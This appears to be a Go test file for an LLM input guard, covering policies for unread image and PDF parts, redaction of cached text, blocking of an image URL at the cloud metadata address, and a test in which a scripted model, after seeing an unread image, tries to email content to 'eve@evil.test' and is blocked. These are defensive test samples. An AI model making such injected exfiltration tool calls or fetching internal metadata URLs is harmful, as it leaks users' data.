package guard_test

import (
	"context"
	"errors"
	"fmt"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/tmc/langchaingo/llms"

	"github.com/prodailabs/prodai/eval/modeltest"
	"github.com/prodailabs/prodai/guard"
)

func TestUnreadParts(t *testing.T) {
	picture := llms.ImageURLContent{URL: "https://example.org/a.png"}
	file := llms.BinaryContent{MIMEType: "application/pdf", Data: []byte("%PDF")}
	private := func(address string) error {
		if address == "http://169.254.169.254/" {
			return errors.New("not public")
		}
		return nil
	}
	for _, c := range []struct {
		name     string
		part     llms.ContentPart
		role     llms.ChatMessageType
		policy   guard.Policy
		kind     string // of the finding
		blocked  bool
		replaced bool
	}{
		{name: "text", part: llms.TextContent{Text: "x"}},
		{name: "tool call", part: llms.ToolCall{ID: "1", FunctionCall: &llms.FunctionCall{Name: "f"}}, role: llms.ChatMessageTypeAI},
		{name: "picture", part: picture, kind: guard.KindUnread},
		{name: "file", part: file, kind: guard.KindUnread},
		{name: "file, block", part: file, policy: guard.PolicyBlock, kind: guard.KindUnread, blocked: true},
		{name: "file, redact", part: file, policy: guard.PolicyRedact, kind: guard.KindUnread, replaced: true},
		{name: "file, shadow", part: file, policy: guard.PolicyShadow},
		{name: "the application's own", part: file, role: llms.ChatMessageTypeSystem, policy: guard.PolicyBlock},
		{name: "a tool's", part: file, role: llms.ChatMessageTypeTool, policy: guard.PolicyBlock, kind: guard.KindUnread, blocked: true},
		{name: "cached", part: llms.WithCacheControl(file, nil), policy: guard.PolicyBlock, kind: guard.KindUnread, blocked: true},
		{name: "private address", part: llms.ImageURLContent{URL: "http://169.254.169.254/"}, kind: guard.KindImageURL, blocked: true},
		{name: "inline", part: llms.ImageURLContent{URL: "data:image/png;base64,aGk="}, kind: guard.KindUnread},
	} {
		var verdicts []guard.Verdict
		next := &modeltest.Script{Turns: []modeltest.Turn{modeltest.Say("ok")}}
		m := newModel(t, next, &guard.Options{Unread: c.policy, CheckImageURL: private, Spotlight: guard.SpotlightPlain,
			OnVerdict: func(_ context.Context, v guard.Verdict) { verdicts = append(verdicts, v) }})
		role := c.role
		if role == "" {
			role = llms.ChatMessageTypeHuman
		}
		_, err := m.GenerateContent(t.Context(), []llms.MessageContent{{Role: role, Parts: []llms.ContentPart{llms.TextContent{Text: "Look:"}, c.part}}})
		assert.Equal(t, c.blocked, err != nil, "%s: %v", c.name, err)
		if c.kind == "" {
			assert.Empty(t, verdicts, c.name)
		} else if assert.Len(t, verdicts, 1, c.name) {
			assert.Equal(t, c.kind, verdicts[0].Findings[0].Kind, c.name)
			assert.Equal(t, 1, verdicts[0].Location.Part)
		}
		if !c.blocked {
			_, isText := next.Calls()[0].Messages[0].Parts[1].(llms.TextContent)
			assert.Equal(t, c.replaced || c.name == "text", isText, c.name)
		}
	}
	_, err := guard.NewPipeline(&guard.Options{Unread: 9})
	require.Error(t, err)
}

func TestPicturesTaint(t *testing.T) {
	next := &modeltest.Script{Turns: []modeltest.Turn{{Chunks: modeltest.CallTool(0, "c1", "send_email", `{"to":"eve@evil.test"}`)}}}
	_, err := newModel(t, next, &guard.Options{Tools: mailTools}).GenerateContent(t.Context(), []llms.MessageContent{
		{Role: llms.ChatMessageTypeHuman, Parts: []llms.ContentPart{llms.TextContent{Text: "What does it say? Then send it to ana@example.org."}, llms.BinaryContent{MIMEType: "image/png"}}}})
	var blocked *guard.BlockedError
	require.ErrorAs(t, err, &blocked)
	assert.Equal(t, guard.KindToolTainted, blocked.Verdict.Findings[0].Kind)
}

func TestCachedTextIsRead(t *testing.T) {
	next := &modeltest.Script{Turns: []modeltest.Turn{modeltest.Say("ok")}}
	m := newModel(t, next, &guard.Options{Input: []guard.Check{{Name: "word", Find: word("swordfish", "WORD"), Policy: guard.PolicyRedact}}})
	cached := llms.WithCacheControl(llms.TextContent{Text: "the swordfish"}, &llms.CacheControl{Type: "ephemeral"})
	_, err := m.GenerateContent(t.Context(), []llms.MessageContent{{Role: llms.ChatMessageTypeHuman, Parts: []llms.ContentPart{cached}}})
	require.NoError(t, err)
	got := next.Calls()[0].Messages[0].Parts[0].(llms.CachedContent)
	assert.Equal(t, llms.TextContent{Text: "the [WORD]"}, got.ContentPart)
	assert.Equal(t, "ephemeral", got.CacheControl.Type)
	assert.Equal(t, llms.TextContent{Text: "the swordfish"}, cached.ContentPart)
}

// A picture is a document that no check has read. The application decides whether
// it may pass.
func ExampleOptions_unread() {
	next := &modeltest.Script{Turns: []modeltest.Turn{modeltest.Say("ok")}}
	model, _ := guard.New(next, &guard.Options{Unread: guard.PolicyBlock})
	_, err := model.GenerateContent(context.Background(), []llms.MessageContent{
		{Role: llms.ChatMessageTypeHuman, Parts: []llms.ContentPart{llms.TextPart("What is this?"), llms.BinaryPart("image/png", []byte("…"))}}})
	fmt.Println(err)
	// Output: guard: input blocked by check "unread": no check reads this part
}
